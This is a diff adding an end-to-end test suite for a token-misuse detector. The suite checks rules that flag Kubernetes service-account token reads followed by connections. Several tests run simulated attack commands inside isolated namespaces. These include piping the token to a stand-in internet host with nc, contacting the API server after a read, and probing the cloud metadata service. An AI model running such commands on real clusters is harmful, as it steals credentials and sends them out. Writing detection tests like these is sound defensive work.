@@ -1,0 +1,233 @@
+#!/usr/bin/python3
+"""End-to-end tests for read -> use (issue #4): TW010, TW011, TW012, TW021.
+
+The victim container runs in a network namespace of the test's own, wired
+by a veth pair to a second namespace of the test's own that holds the
+addresses 10.96.0.1 (an API-server stand-in, :443), 169.254.169.254 (:80,
+the metadata service) and 192.0.2.10 (:80, a documentation-range address
+standing for the internet). Nothing in the root namespace routes to them.
+
+Usage (root): python3 tests/e2e/test_token_use.py
+Exit status 77 means skipped (ctest SKIP_RETURN_CODE).
+"""
+
+import os
+import secrets
+import subprocess
+import sys
+import time
+import unittest
+
+sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
+import test_token_reads as base  # noqa: E402
+
+simnode = base.simnode
+SA = simnode.SA_MOUNT
+TOKEN = SA + "/token"
+APISERVER = ("10.96.0.1", 443)
+METADATA = ("169.254.169.254", 80)
+PUBLIC = ("192.0.2.10", 80)
+
+# Accepts connections on every port it is given and reads what comes.
+SERVER = r"""
+import select, socket, sys
+socks = []
+for port in map(int, sys.argv[1:]):
+    s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+    s.bind(("0.0.0.0", port)); s.listen(64); socks.append(s)
+while True:
+    r, _, _ = select.select(socks, [], [], 1)
+    for s in r:
+        c, _ = s.accept(); c.settimeout(1)
+        try: c.recv(4096)
+        except OSError: pass
+        c.close()
+"""
+
+
+def setUpModule():
+    base.setUpModule()
+    if subprocess.run(["ip", "-V"], capture_output=True).returncode != 0:
+        raise unittest.SkipTest("iproute2 missing")
+
+
+def ip(*args):
+    simnode.host_run(["ip"] + list(args))
+
+
+def argv0(p):
+    argv = p.get("argv") or []
+    return argv[0] if argv else ""
+
+
+class TokenUseScenarios(unittest.TestCase):
+
+    @classmethod
+    def setUpClass(cls):
+        simnode.install_signal_handlers()
+        cls.node = node = simnode.SimNode(prefix="tokenwatch-use-")
+        cls.addClassCleanup(node.close)
+        tag = secrets.token_hex(3)
+        cls.ctr_ns, cls.srv_ns = "tw-ctr-" + tag, "tw-srv-" + tag
+        veth_c, veth_s = "twc" + tag, "tws" + tag
+        for ns in (cls.ctr_ns, cls.srv_ns):
+            ip("netns", "add", ns)
+            node.cleanup.push("delete netns " + ns,
+                              lambda ns=ns: subprocess.run(["ip", "netns", "del", ns]))
+        ip("link", "add", veth_c, "type", "veth", "peer", "name", veth_s)
+        ip("link", "set", veth_c, "netns", cls.ctr_ns)
+        ip("link", "set", veth_s, "netns", cls.srv_ns)
+        ip("-n", cls.ctr_ns, "addr", "add", "10.200.0.2/24", "dev", veth_c)
+        ip("-n", cls.ctr_ns, "link", "set", veth_c, "up")
+        ip("-n", cls.ctr_ns, "link", "set", "lo", "up")
+        ip("-n", cls.ctr_ns, "route", "add", "default", "via", "10.200.0.1")
+        ip("-n", cls.srv_ns, "addr", "add", "10.200.0.1/24", "dev", veth_s)
+        for addr in (APISERVER[0], METADATA[0], PUBLIC[0]):
+            ip("-n", cls.srv_ns, "addr", "add", addr + "/32", "dev", "lo")
+        ip("-n", cls.srv_ns, "link", "set", veth_s, "up")
+        ip("-n", cls.srv_ns, "link", "set", "lo", "up")
+        server = subprocess.Popen(
+            ["ip", "netns", "exec", cls.srv_ns, "/usr/bin/python3", "-c", SERVER, "443", "80"],
+            stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+        node.cleanup.push("stop listeners", lambda: (server.kill(), server.wait()))
+
+        cls.pod = node.add_pod("shop", "checkout-5d8f7b9c4-q2w3e", "checkout")
+        cls.app = node.add_container(cls.pod, "app", netns=cls.ctr_ns)
+        cls.helper = node.compile_static(os.path.join(base.E2E_DIR, "use_helper.c"), "use_helper")
+        cls.app.install(cls.helper, "/opt/tw/use_helper")
+        cls.app.wait_entrypoint_reading()
+        cls.tw = simnode.Tokenwatch(node, base.BIN_DIR)
+        cls.tw.start_collector()
+        cls.tw.start_agent(extra_args=["--apiserver", "%s:%d" % APISERVER])
+        # The listeners must answer before the scenarios start.
+        deadline = time.monotonic() + 10
+        while time.monotonic() < deadline:
+            r = cls.app.exec(["sh", "-c", "nc -w 1 %s %d </dev/null; echo $?" % APISERVER],
+                             check=False)
+            if r.stdout.strip().endswith("0"):
+                break
+            time.sleep(0.3)
+
+    def applet(self, name):
+        """A private busybox copy: its own exe, so its findings are its own."""
+        self.assertLessEqual(len(name), 15)
+        return self.app.install_applet("/opt/tw/" + name)
+
+    def wait(self, predicate, what, timeout=base.FINDING_TIMEOUT):
+        f = self.tw.wait_for_finding(predicate, timeout=timeout)
+        if f is None:
+            self.fail("no finding for %s.\nfindings:\n  %s\nagent stderr (tail):\n%s" % (
+                what, "\n  ".join(base.describe(x) for x in self.tw.findings()) or "(none)",
+                self.tw.agent_stderr()[-3000:]))
+        return f
+
+    def assert_names_token_of_pod(self, f):
+        token = f.get("token") or {}
+        self.assertEqual((token.get("owner") or {}).get("uid"), self.pod.uid, base.describe(f))
+        self.assertEqual(token.get("serviceAccount"), self.pod.service_account)
+
+    def assert_connection_to(self, f, addr, port, target):
+        conns = f.get("connections") or []
+        self.assertTrue(any(c.get("address") == addr and c.get("port") == port
+                            and c.get("target") == target for c in conns),
+                        "no connection to %s:%d (%s) in %s" % (addr, port, target, conns))
+
+    def test_10_read_then_connect_to_apiserver_is_tw010(self):
+        self.app.exec(["/opt/tw/use_helper", "read-then-connect", TOKEN] +
+                      [APISERVER[0], str(APISERVER[1])])
+        f = self.wait(lambda f: f.get("ruleId") == "TW010"
+                      and argv0(f.get("process") or {}) == "/opt/tw/use_helper",
+                      "use_helper read-then-connect to the API server")
+        self.assertEqual(f.get("severity"), "SEVERITY_CRITICAL")
+        self.assert_names_token_of_pod(f)
+        self.assertEqual(argv0(f.get("reader") or {}), "/opt/tw/use_helper")
+        self.assert_connection_to(f, APISERVER[0], APISERVER[1], "TARGET_KIND_APISERVER")
+
+    def test_11_taint_through_the_shell_is_tw010(self):
+        nc = self.applet("busybox.t11")
+        self.app.exec(["sh", "-c", "T=$(cat %s); %s nc -w 1 %s %d </dev/null; true" % (
+            TOKEN, nc, APISERVER[0], APISERVER[1])])
+        f = self.wait(lambda f: f.get("ruleId") == "TW010"
+                      and argv0(f.get("process") or {}).endswith("busybox.t11"),
+                      "sh -c 'T=$(cat token); nc apiserver'")
+        self.assert_names_token_of_pod(f)
+        # The reader was cat, not the connector.
+        self.assertIn("cat", " ".join((f.get("reader") or {}).get("argv", [])))
+
+    def test_12_apiserver_contact_without_a_read_is_not_tw010(self):
+        nc = self.applet("busybox.t12")
+        self.app.exec(["sh", "-c", "%s nc -w 1 %s %d </dev/null; true" % (nc, *APISERVER)])
+        # Give it the time a finding would take, with a marker read after it.
+        time.sleep(3)
+        bad = [f for f in self.tw.findings() if f.get("ruleId") == "TW010"
+               and argv0(f.get("process") or {}).endswith("busybox.t12")]
+        self.assertEqual(bad, [], "TW010 for a process that read no token")
+
+    def test_21_metadata_service_contact_is_tw021(self):
+        nc = self.applet("busybox.t21")
+        self.app.exec(["sh", "-c", "%s nc -w 1 %s %d </dev/null; true" % (nc, *METADATA)])
+        f = self.wait(lambda f: f.get("ruleId") == "TW021"
+                      and argv0(f.get("process") or {}).endswith("busybox.t21"),
+                      "nc 169.254.169.254 80")
+        self.assertEqual(f.get("severity"), "SEVERITY_MEDIUM")
+        self.assertIn("T1552.005", f.get("mitre", []))
+        self.assert_connection_to(f, METADATA[0], METADATA[1], "TARGET_KIND_METADATA")
+
+    def test_30_read_then_connect_out_is_tw011(self):
+        nc = self.applet("busybox.t30")
+        self.app.exec(["sh", "-c", "%s cat %s >/dev/null; %s nc -w 1 %s %d </dev/null; true" % (
+            nc, TOKEN, nc, *PUBLIC)])
+        f = self.wait(lambda f: f.get("ruleId") == "TW011"
+                      and argv0(f.get("process") or {}).endswith("busybox.t30"),
+                      "read, then nc 192.0.2.10 80")
+        self.assertEqual(f.get("severity"), "SEVERITY_HIGH")
+        self.assert_names_token_of_pod(f)
+        self.assert_connection_to(f, PUBLIC[0], PUBLIC[1], "TARGET_KIND_OTHER")
+
+    def test_31_pipe_to_a_sibling_connector_is_tw011(self):
+        nc = self.applet("busybox.t31")
+        self.app.exec(["sh", "-c", "cat %s | %s nc -w 1 %s %d; true" % (TOKEN, nc, *PUBLIC)])
+        self.wait(lambda f: f.get("ruleId") == "TW011"
+                  and argv0(f.get("process") or {}).endswith("busybox.t31"),
+                  "cat token | nc 192.0.2.10 80")
+
+    def test_32_connect_first_then_read_is_tw011(self):
+        self.app.exec(["/opt/tw/use_helper", "connect-then-read", TOKEN] +
+                      [PUBLIC[0], str(PUBLIC[1])])
+        f = self.wait(lambda f: f.get("ruleId") == "TW011"
+                      and argv0(f.get("process") or {}) == "/opt/tw/use_helper",
+                      "use_helper connect-then-read")
+        self.assert_connection_to(f, PUBLIC[0], PUBLIC[1], "TARGET_KIND_OTHER")
+
+    def test_40_token_in_argv_is_tw012_and_never_shown(self):
+        echo = self.applet("busybox.t40")
+        self.app.exec(["sh", "-c", 'T=$(cat %s); %s echo "Authorization: Bearer $T" >/dev/null'
+                       % (TOKEN, echo)])
+        f = self.wait(lambda f: f.get("ruleId") == "TW012"
+                      and argv0(f.get("process") or {}).endswith("busybox.t40"),
+                      "echo \"Authorization: Bearer $T\"")
+        self.assertEqual(f.get("severity"), "SEVERITY_HIGH")
+        self.assert_names_token_of_pod(f)
+        self.assertIn("Authorization: Bearer <redacted-jwt>", f["process"]["argv"])
+
+    def test_90_no_output_holds_the_token(self):
+        time.sleep(2)
+        outputs = {
+            "findings file": simnode.read_text(self.tw.findings_path),
+            "agent stderr": self.tw.agent_stderr(),
+            "tokenwatchctl": "\n".join(self.tw.ctl_outputs + [self.tw.ctl("findings", "--json")]),
+        }
+        with open(self.tw.db_path, "rb") as db:
+            outputs["collector db"] = db.read().decode("latin-1")
+        for secret in self.node.secrets_to_scan():
+            for what, text in outputs.items():
+                self.assertNotIn(secret, text, "a token leaked into the " + what)
+
+
+if __name__ == "__main__":
+    reasons = base.missing_prerequisites()
+    if reasons:
+        print("%s: %s" % ("FAIL (TOKENWATCH_REQUIRE_BPF=1)" if base.REQUIRE else "SKIP",
+                          "; ".join(reasons)), flush=True)
+        sys.exit(1 if base.REQUIRE else 77)
+    unittest.main(verbosity=2)
